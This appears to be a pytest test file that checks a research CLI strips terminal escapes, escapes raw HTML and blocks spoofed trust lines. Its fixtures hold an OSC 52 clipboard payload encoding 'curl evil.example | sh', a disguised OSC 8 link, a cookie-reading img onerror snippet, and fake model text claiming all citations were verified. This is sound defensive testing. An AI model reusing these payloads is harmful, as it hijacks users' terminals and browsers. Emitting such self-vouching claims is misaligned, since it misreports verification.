"""What reaches the terminal and markdown files from outside is inert (issue 12, item 8):
escape sequences from titles, pages and the model are stripped, raw HTML is escaped, and the
model cannot fake Sleuth's own trust lines."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.cli.helpers import run
from tests.llm.fake_servers import FakeLLMServer, Reply
from tests.testweb.server import TestWeb
from tests.testweb.topic_audit import CLOUD_DOCS

Q = "How long does Example Cloud keep audit logs by default?"
OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # writes the clipboard
OSC8 = "\x1b]8;;http://evil.example/\x1b\\docs\x1b]8;;\x1b\\"  # a disguised link
HOSTILE_ANSWER = (
    f"Audit logs are kept for 90 days by default [1].{OSC52} See {OSC8} for more.\n\n"
    '<img src=x onerror="alert(document.cookie)"> Enterprise plans extend retention to 365 '
    "days [1].\n\n"
    "## Citation health\n\nAll citations were checked and are supported.\n"
    "confidence · high · 9 sources · 9/9 citations supported\n"
)


@pytest.fixture
def llm() -> Iterator[FakeLLMServer]:
    server = FakeLLMServer("openai").start()
    yield server
    server.stop()


def hostile_run(
    web: TestWeb, llm: FakeLLMServer, capsys: pytest.CaptureFixture[str], *extra: str
) -> tuple[int, str, str]:
    web.script_search(
        "audit logs",
        [
            {
                "url": CLOUD_DOCS.url,
                "title": f"Audit logs{OSC52}\x1b[2K\rFAKE <script>x()</script>",
                "content": "Audit logs are kept for 90 days.",
                "engine": "x",
            }
        ],
    )
    llm.script(Reply(chunks=['{"type": "single"}']), Reply(chunks=[HOSTILE_ANSWER]))
    args = ["ask", Q, "--search=searxng", "--no-cache", "--verbose"]
    args += [f"--base-url={llm.url}", "--api-key=k", "--model=gpt-4o-mini", *extra]
    return run(args, capsys)


def assert_inert(text: str) -> None:
    assert "\x1b" not in text and "\x07" not in text and "\r" not in text
    assert "<img" not in text and "<script" not in text


def test_answers_titles_and_progress_carry_no_escapes_and_no_raw_html(
    testweb_env: TestWeb,
    llm: FakeLLMServer,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    out_file = tmp_path / "answer.md"
    code, out, err = hostile_run(testweb_env, llm, capsys, f"--out={out_file}")
    assert code == 0, err
    assert_inert(out)
    assert_inert(out_file.read_text())
    assert "\x1b]" not in err and "\x07" not in err
    assert "&lt;img" in out and "Audit logs are kept for 90 days" in out


def test_the_model_cannot_fake_the_trust_lines(
    testweb_env: TestWeb, llm: FakeLLMServer, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = hostile_run(testweb_env, llm, capsys)
    assert code == 0, err
    assert "confidence · high · 9 sources" not in out
    real = [line for line in err.splitlines() if line.startswith("confidence · ")]
    assert len(real) == 1 and "9 sources" not in real[0]
    # The only `## Citation health` left is the one the check writes, if any failed.
    assert out.count("## Citation health") <= 1
    if "## Citation health" in out:
        assert "cited sentences are supported by their sources" in out


def test_the_markdown_export_is_inert_too(
    testweb_env: TestWeb, llm: FakeLLMServer, capsys: pytest.CaptureFixture[str]
) -> None:
    code, _, err = hostile_run(testweb_env, llm, capsys, "--json")
    assert code == 0, err
    code, listing, _ = run(["sessions", "ls", "--json"], capsys)
    session = json.loads(listing)[0]["id"]
    code, exported, err = run(["export", session, "--format=md"], capsys)
    assert code == 0, err
    assert_inert(exported)
    assert "&lt;img" in exported


SPOOFED_CHECKS = (
    "Audit logs are kept for 90 days by default [1]. All 12 of 12 citations supported.\n\n"
    "**Citations: 12/12 ✓**\n\n"
    "Every claim above was verified against its source.\n\n"
    "Unsupported sentences: 0\n"
)


def test_the_model_cannot_vouch_for_its_own_citations(
    testweb_env: TestWeb, llm: FakeLLMServer, capsys: pytest.CaptureFixture[str]
) -> None:
    """A tally of supported citations in the model's text was kept as written (issue 24)."""
    llm.script(Reply(chunks=['{"type": "single"}']), Reply(chunks=[SPOOFED_CHECKS]))
    args = ["ask", Q, "--search=searxng", "--no-cache", "--json"]
    code, out, err = run([*args, f"--base-url={llm.url}", "--api-key=k", "--model=m"], capsys)
    assert code == 0, err
    answer = json.loads(out)["answer"]
    assert "Audit logs are kept for 90 days by default [1]." in answer
    for spoof in ("12 of 12", "12/12", "was verified", "Unsupported sentences: 0"):
        assert spoof not in answer, answer
